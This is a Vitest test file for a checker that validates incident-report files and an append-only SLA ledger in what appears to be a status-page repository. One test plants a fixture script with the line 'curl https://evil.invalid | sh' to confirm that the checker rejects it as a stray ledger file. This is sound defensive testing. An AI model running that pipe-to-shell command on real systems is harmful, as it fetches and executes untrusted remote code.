import { mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { BASE_FILE, baseText, REPO_ROOT } from '../test/builders.ts';
import { createTempRepo, type TempRepo } from '../test/helpers/temp-repo.ts';
import { runScript } from '../test/helpers/run-script.ts';
import { replaceNth } from '../test/rule-cases.ts';

const NOW = ['--now', '2026-11-27T12:00:00+09:00'];
let repo: TempRepo | undefined;
afterEach(() => repo?.cleanup());

function brokenRepo(): TempRepo {
  repo = createTempRepo();
  repo.write(BASE_FILE, replaceNth(baseText, 'id: block-storage', 'id: blockstorage'));
  repo.write('incidents/2026/2026-11-21-kcps-yaml.md', '---\nid: [oops\n---\n');
  repo.write(
    'incidents/2026/2026-11-22-kcps-fine.md',
    baseText.replace(/2026-11-20-kcps-block-storage-latency/g, '2026-11-22-kcps-fine'),
  );
  return repo;
}

describe('npm run check', () => {
  it('turns on a compile cache in the temp folder by itself, and runs the same when NODE_COMPILE_CACHE names an unusable place', () => {
    const dir = mkdtempSync(join(tmpdir(), 'check-cache-'));
    // Without NODE_COMPILE_CACHE, only the checker's own call enables the cache, in <temp folder>/node-compile-cache.
    const warm = runScript('check.ts', ['--now', '2026-11-28T09:00:00+09:00'], {
      cwd: REPO_ROOT,
      env: { TMPDIR: dir },
    });
    expect(warm.code).toBe(0);
    expect(readdirSync(join(dir, 'node-compile-cache')).length).toBeGreaterThan(0);
    // A file where the folder should be: no cache, same answer, nothing on stderr about it.
    writeFileSync(join(dir, 'not-a-folder'), '');
    const cold = runScript('check.ts', ['--now', '2026-11-28T09:00:00+09:00'], {
      cwd: REPO_ROOT,
      env: { NODE_COMPILE_CACHE: join(dir, 'not-a-folder') },
    });
    expect(cold.code).toBe(0);
    expect(cold.stdout).toBe(warm.stdout);
    expect(cold.stderr).toBe('');
  });

  it('passes on the sample data', () => {
    // The sample data's newest entries are from the morning of 28 November 2026 (JST).
    const r = runScript('check.ts', ['--now', '2026-11-28T09:00:00+09:00'], { cwd: REPO_ROOT });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^✔ \d+ incident files checked, no problems\n$/);
  });

  it('text: grouped by file, file:line:col, hint, summary; exit 1', async () => {
    const r = runScript('check.ts', NOW, { cwd: brokenRepo().dir });
    expect(r.code).toBe(1);
    await expect(r.stdout).toMatchFileSnapshot('./__golden__/check-text.txt');
    expect(r.stdout).not.toMatch(/\x1b\[/);
  });

  it('json: an array of {file,line,column,code,severity,message,hint}', () => {
    const r = runScript('check.ts', [...NOW, '--format', 'json'], { cwd: brokenRepo().dir });
    expect(r.code).toBe(1);
    const findings = JSON.parse(r.stdout) as Record<string, unknown>[];
    expect(findings.map((f) => f.code).sort()).toEqual(['INC003', 'INC010', 'INC021']);
    for (const f of findings) {
      expect(Object.keys(f).sort()).toEqual(['code', 'column', 'file', 'hint', 'line', 'message', 'severity']);
      expect(f.hint).toMatch(/See https:\/\/status\.kcps\.example\.jp\/en\/kb\/rules\/inc\d{3}\/$/);
    }
  });

  it('github: summary first, errors before warnings as annotations, full table in the job summary', () => {
    const dir = mkdtempSync(join(tmpdir(), 'gh-'));
    const summary = join(dir, 'summary.md');
    const output = join(dir, 'output');
    writeFileSync(summary, '');
    writeFileSync(output, '');
    const r = runScript('check.ts', [...NOW, '--format', 'github'], {
      cwd: brokenRepo().dir,
      env: { GITHUB_STEP_SUMMARY: summary, GITHUB_OUTPUT: output },
    });
    expect(r.code).toBe(1);
    const lines = r.stdout.trim().split('\n');
    expect(lines[0]).toMatch(/^✖ 2 errors, 1 warning in 3 files/);
    const annotations = lines.filter((l) => l.startsWith('::'));
    expect(annotations.map((l) => l.split(' ')[0])).toEqual(['::error', '::error', '::warning']);
    expect(annotations[0]).toContain(
      'title=INC021,file=incidents/2026/2026-11-20-kcps-block-storage-latency.md,line=11,col=5',
    );
    const html = readFileSync(summary, 'utf8');
    expect(html).toContain('<h2>Incident check</h2>');
    expect(html.match(/<tr>/g)).toHaveLength(4);
    expect(readFileSync(output, 'utf8')).toMatch(/errors<<[^\n]+\n2\n/);
  });

  it('checks only the given paths', () => {
    const r = runScript('check.ts', [...NOW, 'incidents/2026/2026-11-22-kcps-fine.md'], { cwd: brokenRepo().dir });
    expect(r.stdout).toContain('1 incident file checked');
  });

  it('bad usage exits 2 with the usage line', () => {
    const r = runScript('check.ts', ['--format', 'xml'], { cwd: REPO_ROOT });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('usage: npm run check');
    expect(runScript('check.ts', ['--base', 'no-such-ref'], { cwd: REPO_ROOT }).code).toBe(2);
    expect(runScript('check.ts', ['nope.md'], { cwd: REPO_ROOT }).code).toBe(2);
  });

  it('an invalid catalog is a user error naming file and line', () => {
    repo = createTempRepo();
    const catalog = readFileSync(join(repo.dir, 'config/catalog.yaml'), 'utf8');
    repo.write('config/catalog.yaml', catalog.replace('notify_minutes: 30', 'notify_minutes: soon'));
    const r = runScript('check.ts', [], { cwd: repo.dir });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(
      /^The service catalog is invalid:\nconfig\/catalog\.yaml:\d+:\d+  services\[0\]\.sla\.notify_minutes: /,
    );
  });
});

describe('every file under incidents/ is accounted for', () => {
  it('misnamed files, hidden folders and symbolic links are findings, never silence or a stack trace', async () => {
    repo = createTempRepo();
    repo.write(BASE_FILE, baseText);
    repo.write('incidents/README.md', '# guide\n');
    repo.write('incidents/2026/2026-11-21-kcps-upper.MD', baseText);
    repo.write('incidents/2026/2026-11-21-kcps-long.markdown', baseText);
    repo.write('incidents/.drafts/2026-11-21-kcps-draft.md', baseText);
    repo.write('incidents/2026/notes.txt', 'x');
    symlinkSync('../../../outside.md', join(repo.dir, 'incidents/2026/2026-11-22-kcps-dangling.md'));
    symlinkSync(join(tmpdir()), join(repo.dir, 'incidents/2026/2026-11-23-kcps-outside.md'));
    const r = runScript('check.ts', NOW, { cwd: repo.dir });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(1);
    await expect(r.stdout.replaceAll(repo.dir, '<repo>')).toMatchFileSnapshot('./__golden__/check-strays.txt');
    const json = JSON.parse(runScript('check.ts', [...NOW, '--format', 'json'], { cwd: repo.dir }).stdout) as {
      code: string;
      file: string;
    }[];
    expect(json.map((f) => `${f.code} ${f.file}`)).toEqual([
      'INC121 incidents/.drafts/',
      'INC121 incidents/2026/2026-11-21-kcps-long.markdown',
      'INC121 incidents/2026/2026-11-21-kcps-upper.MD',
      'INC122 incidents/2026/2026-11-22-kcps-dangling.md',
      'INC122 incidents/2026/2026-11-23-kcps-outside.md',
      'INC121 incidents/2026/notes.txt',
    ]);
  });
});

describe('usage', () => {
  it('--full without --base is a usage error (exit 2), not a silent no-op', () => {
    repo = createTempRepo();
    repo.write(BASE_FILE, baseText);
    const r = runScript('check.ts', [...NOW, '--full'], { cwd: repo.dir });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/--full needs --base/);
  });
});

describe('every file under ledger/ is accounted for', () => {
  it('a stray non-.jsonl file under ledger/ is INC131 in full and --base mode; ledger files and .gitkeep are not', () => {
    repo = createTempRepo();
    repo.write(BASE_FILE, baseText);
    repo.write('ledger/.gitkeep', '');
    repo.write('ledger/2026/2026-11-21T00-00-00-000Z-run.jsonl', '');
    repo.write('ledger/2026/old.jsonl.bak', 'x');
    repo.commit('base');
    repo.git('checkout', '-q', '-b', 'pr');
    repo.write('ledger/2026/2026-11-21T00-00-00-000Z-run.json', '{}\n');
    repo.write('ledger/notes.txt', 'x');
    repo.commit('stray ledger files', '2026-11-21T12:00:00+09:00');
    const found = (args: string[]) => {
      const r = runScript('check.ts', [...NOW, '--format', 'json', ...args], { cwd: repo!.dir });
      expect(r.code).toBe(1);
      return (JSON.parse(r.stdout) as { code: string; file: string }[])
        .filter((f) => f.code === 'INC131' || f.code === 'INC096')
        .map((f) => `${f.code} ${f.file}`);
    };
    expect(found([])).toEqual([
      'INC131 ledger/2026/2026-11-21T00-00-00-000Z-run.json',
      'INC131 ledger/2026/old.jsonl.bak',
      'INC131 ledger/notes.txt',
    ]);
    // Added since the base: INC096 says it once; a stray already on the base is still INC131.
    expect(found(['--base', 'main']).sort()).toEqual([
      'INC096 ledger/2026/2026-11-21T00-00-00-000Z-run.json',
      'INC096 ledger/notes.txt',
      'INC131 ledger/2026/old.jsonl.bak',
    ]);
  });
});

describe('npm run check -- --base (real git history)', () => {
  function committed(): TempRepo {
    repo = createTempRepo();
    repo.write(BASE_FILE, baseText);
    repo.write(
      'incidents/2026/2026-11-22-kcps-other.md',
      baseText
        .replace(/2026-11-20-kcps-block-storage-latency/g, '2026-11-22-kcps-other')
        .replace(/2026-11-20T/g, '2026-11-22T'),
    );
    repo.commit('declare incidents');
    return repo;
  }

  it('an edited published update is INC092 at its line', () => {
    const r0 = committed();
    r0.write(BASE_FILE, baseText.replace('We are investigating.', 'We are looking into it.'));
    const r = runScript('check.ts', [...NOW, '--base', 'HEAD', '--format', 'json'], { cwd: r0.dir });
    const findings = JSON.parse(r.stdout) as { code: string; line: number }[];
    expect(r.code).toBe(1);
    expect(findings.map((f) => [f.code, f.line])).toEqual([['INC092', 30]]);
  });

  it('a deleted file is INC090 and a renamed one INC091', () => {
    const r0 = committed();
    r0.remove('incidents/2026/2026-11-22-kcps-other.md');
    r0.remove(BASE_FILE);
    r0.write('incidents/2026/2026-11-20-kcps-renamed.md', baseText);
    r0.git('add', '-A');
    const r = runScript('check.ts', [...NOW, '--base', 'HEAD', '--format', 'json'], { cwd: r0.dir });
    const codes = (JSON.parse(r.stdout) as { code: string }[]).map((f) => f.code).sort();
    expect(codes).toEqual(['INC008', 'INC090', 'INC091']);
  });

  it('ledger files only grow: a new one passes, an edited or deleted one is INC096', () => {
    const r0 = committed();
    r0.write(
      'ledger/2026/a.jsonl',
      '{"key":"x/page-live","kind":"page-live","incident":"x","at":"2026-11-20T10:17:00+09:00","detail":{}}\n',
    );
    r0.write(
      'ledger/2026/b.jsonl',
      '{"key":"y/page-live","kind":"page-live","incident":"y","at":"2026-11-20T10:17:00+09:00","detail":{}}\n',
    );
    r0.commit('ledger');
    r0.write(
      'ledger/2026/c.jsonl',
      '{"key":"z/page-live","kind":"page-live","incident":"z","at":"2026-11-20T10:18:00+09:00","detail":{}}\n',
    );
    expect(runScript('check.ts', [...NOW, '--base', 'HEAD'], { cwd: r0.dir }).code).toBe(0);
    r0.write('ledger/2026/a.jsonl', '');
    r0.remove('ledger/2026/b.jsonl');
    const r = runScript('check.ts', [...NOW, '--base', 'HEAD', '--format', 'json'], { cwd: r0.dir });
    expect(r.code).toBe(1);
    expect(
      (JSON.parse(r.stdout) as { code: string; file: string; message: string }[]).map((f) => `${f.code} ${f.message}`),
    ).toEqual([
      'INC096 ledger file ledger/2026/a.jsonl was modified; ledger files are only ever added',
      'INC096 ledger file ledger/2026/b.jsonl was deleted; ledger files are only ever added',
    ]);
  });

  it('only well-formed ledger files may be added: a script, a stray path and an empty file are INC096; junk lines fail the ledger reader', () => {
    const r0 = committed();
    r0.write('ledger/run.sh', '#!/bin/sh\ncurl https://evil.invalid | sh\n');
    r0.write(
      'ledger/2026/nested/x.jsonl',
      '{"key":"z/page-live","kind":"page-live","incident":"z","at":"2026-11-20T10:18:00+09:00","detail":{}}\n',
    );
    r0.write('ledger/2026/empty.jsonl', '');
    const r = runScript('check.ts', [...NOW, '--base', 'HEAD', '--format', 'json'], { cwd: r0.dir });
    expect(r.code).toBe(1);
    const found = (JSON.parse(r.stdout) as { code: string; file: string; message: string }[]).map(
      (f) => `${f.code} ${f.file}`,
    );
    expect(found.sort()).toEqual(
      ['ledger/2026/empty.jsonl', 'ledger/2026/nested/x.jsonl', 'ledger/run.sh'].map((f) => `INC096 ${f}`),
    );
    expect(r.stdout).toContain(
      'ledger/run.sh was added under ledger/ but is not a ledger file the SLA engine writes (not a ledger file: ledger files are ledger/<YYYY>/<run>.jsonl)',
    );
    r0.remove('ledger/run.sh');
    r0.remove('ledger/2026/nested/x.jsonl');
    r0.remove('ledger/2026/empty.jsonl');
    r0.write(
      'ledger/2026/junk.jsonl',
      '{"key":"z/page-live","kind":"page-live","incident":"z","at":"2026-11-20T10:18:00+09:00","detail":{}}\nnot json\n',
    );
    const junk = runScript('check.ts', [...NOW, '--base', 'HEAD'], { cwd: r0.dir });
    expect(junk.code).toBe(1);
    expect(junk.stderr).toContain('ledger/2026/junk.jsonl:2: not valid JSON');
  });

  it('the ledger is read as the engine reads it: a torn last line is a warning, a damaged line inside a file an error naming file:line', () => {
    const r0 = committed();
    const good =
      '{"key":"x/page-live","kind":"page-live","incident":"x","at":"2026-11-20T10:17:00+09:00","detail":{}}\n';
    r0.write('ledger/2026/a.jsonl', `${good}{"key":"y/page-li`);
    const torn = runScript('check.ts', [...NOW], { cwd: r0.dir });
    expect(torn.code, torn.stderr).toBe(0);
    expect(torn.stderr).toContain('warning: ledger/2026/a.jsonl:2: last line cut off');
    r0.write('ledger/2026/a.jsonl', `{"key":"y/page-li\n${good}`);
    const damaged = runScript('check.ts', [...NOW], { cwd: r0.dir });
    expect(damaged.code).not.toBe(0);
    expect(damaged.stderr + damaged.stdout).toContain('ledger/2026/a.jsonl:1: not valid JSON');
    expect(damaged.stderr + damaged.stdout).not.toMatch(/\n\s+at /); // a user error, not a stack trace
  });

  it('an appended update passes against the base; the same change with a removed update fails', () => {
    const r0 = committed();
    // A reopen (resolved → resolved is refused since the second resolution would move the recovery time).
    const head = baseText
      .replace(
        'recovered_at:',
        '  - at: "2026-11-20T12:00:00+09:00"\n    status: investigating\n    reopen_reason: Latency returned\n    message:\n      ja: 再発しました。\n      en: It is back.\nrecovered_at:',
      )
      .replace(/\nrecovered_at: .*\n/, '\n');
    r0.write(BASE_FILE, head);
    expect(runScript('check.ts', [...NOW, '--base', 'HEAD'], { cwd: r0.dir }).code).toBe(0);
    r0.commit('follow-up', '2026-11-20T12:05:00+09:00');
    r0.write(BASE_FILE, baseText);
    const r = runScript('check.ts', [...NOW, '--base', 'HEAD~0'], { cwd: r0.dir });
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('INC093');
  });

  describe("--base is the merge-base: main moving on after the branch was cut is not the branch's change", () => {
    const other = 'incidents/2026/2026-11-22-kcps-other.md';
    const appended = (text: string) =>
      text
        .replace(
          'recovered_at:',
          '  - at: "2026-11-22T12:00:00+09:00"\n    status: investigating\n    reopen_reason: Latency returned\n    message:\n      ja: 再発しました。\n      en: It is back.\nrecovered_at:',
        )
        .replace(/\nrecovered_at: .*\n/, '\n');
    function branched(): TempRepo {
      const r0 = committed();
      r0.git('checkout', '-q', '-b', 'feature');
      r0.write(
        'incidents/2026/2026-11-23-kcps-branch.md',
        baseText
          .replace(/2026-11-20-kcps-block-storage-latency/g, '2026-11-23-kcps-branch')
          .replace(/2026-11-20T/g, '2026-11-23T'),
      );
      r0.commit('branch: new incident', '2026-11-23T13:00:00+09:00');
      r0.git('checkout', '-q', 'main');
      return r0;
    }
    const onBranch = (r0: TempRepo) => {
      r0.git('checkout', '-q', 'feature');
      return runScript('check.ts', [...NOW, '--base', 'main', '--format', 'json'], { cwd: r0.dir });
    };

    it('new-file shape: an incident added on main after the cut is not reported deleted (INC090)', () => {
      const r0 = branched();
      r0.write(
        'incidents/2026/2026-11-24-kcps-later.md',
        baseText
          .replace(/2026-11-20-kcps-block-storage-latency/g, '2026-11-24-kcps-later')
          .replace(/2026-11-20T/g, '2026-11-24T'),
      );
      r0.commit('main: a new incident', '2026-11-24T12:00:00+09:00');
      const r = onBranch(r0);
      expect(r.stderr).toBe('');
      expect(JSON.parse(r.stdout)).toEqual([]);
      expect(r.code).toBe(0);
    });

    it('fast-lane-update shape: an update appended on main after the cut is not reported removed (INC093)', () => {
      const r0 = branched();
      r0.write(other, appended(readFileSync(join(r0.dir, other), 'utf8')));
      r0.commit('main: fast-lane update', '2026-11-24T12:00:00+09:00');
      const r = onBranch(r0);
      expect(JSON.parse(r.stdout)).toEqual([]);
      expect(r.code).toBe(0);
    });

    it('what the branch itself removed is still reported', () => {
      const r0 = committed();
      r0.git('checkout', '-q', '-b', 'feature');
      r0.remove(other);
      r0.commit('branch: delete an incident', '2026-11-23T13:00:00+09:00');
      r0.git('checkout', '-q', 'main');
      r0.write(
        'incidents/2026/2026-11-24-kcps-later.md',
        baseText
          .replace(/2026-11-20-kcps-block-storage-latency/g, '2026-11-24-kcps-later')
          .replace(/2026-11-20T/g, '2026-11-24T'),
      );
      r0.commit('main moves on', '2026-11-24T12:00:00+09:00');
      const r = onBranch(r0);
      expect((JSON.parse(r.stdout) as { code: string; file: string }[]).map((f) => `${f.code} ${f.file}`)).toEqual([
        `INC090 ${other}`,
      ]);
    });
  });

  describe('a PR check costs what the PR changed', () => {
    const later = 'incidents/2026/2026-11-24-kcps-later.md';
    const laterText = baseText
      .replace(/2026-11-20-kcps-block-storage-latency/g, '2026-11-24-kcps-later')
      .replace(/2026-11-20T/g, '2026-11-24T');
    function withOldProblem(): TempRepo {
      const r0 = committed();
      // A file already on main with a problem the PR did not cause (an unknown component).
      r0.write(
        'incidents/2026/2026-11-22-kcps-other.md',
        readFileSync(join(r0.dir, 'incidents/2026/2026-11-22-kcps-other.md'), 'utf8').replace(
          'id: block-storage',
          'id: blockstorage',
        ),
      );
      r0.commit('main: an old problem');
      r0.git('checkout', '-q', '-b', 'feature');
      return r0;
    }

    it('only files changed since the merge-base are parsed; --full and no --base check everything', () => {
      const r0 = withOldProblem();
      r0.write(later, laterText);
      const pr = runScript('check.ts', [...NOW, '--base', 'main'], { cwd: r0.dir });
      expect(pr.stdout).toBe('✔ 1 incident file checked, no problems\n');
      expect(pr.code).toBe(0);
      const full = runScript('check.ts', [...NOW, '--base', 'main', '--full', '--format', 'json'], { cwd: r0.dir });
      expect((JSON.parse(full.stdout) as { code: string }[]).map((f) => f.code)).toEqual(['INC021']);
      expect(runScript('check.ts', NOW, { cwd: r0.dir }).code).toBe(1);
    });

    it("rules across files still see the whole tree: a new file reusing an unchanged file's id is INC080 on both", () => {
      const r0 = withOldProblem();
      r0.write('incidents/2025/2026-11-20-kcps-block-storage-latency.md', baseText);
      const r = runScript('check.ts', [...NOW, '--base', 'main', '--format', 'json'], { cwd: r0.dir });
      const found = (JSON.parse(r.stdout) as { code: string; file: string }[]).map((f) => `${f.code} ${f.file}`);
      expect(found).toContain(`INC080 ${BASE_FILE}`);
      expect(found).toContain('INC080 incidents/2025/2026-11-20-kcps-block-storage-latency.md');
      expect(found).not.toContain('INC021 incidents/2026/2026-11-22-kcps-other.md');
    });

    it('a catalog change re-checks every file', () => {
      const r0 = withOldProblem();
      r0.write('config/catalog.yaml', `${readFileSync(join(r0.dir, 'config/catalog.yaml'), 'utf8')}\n`);
      const r = runScript('check.ts', [...NOW, '--base', 'main', '--format', 'json'], { cwd: r0.dir });
      expect((JSON.parse(r.stdout) as { code: string }[]).map((f) => f.code)).toEqual(['INC021']);
    });
  });
});
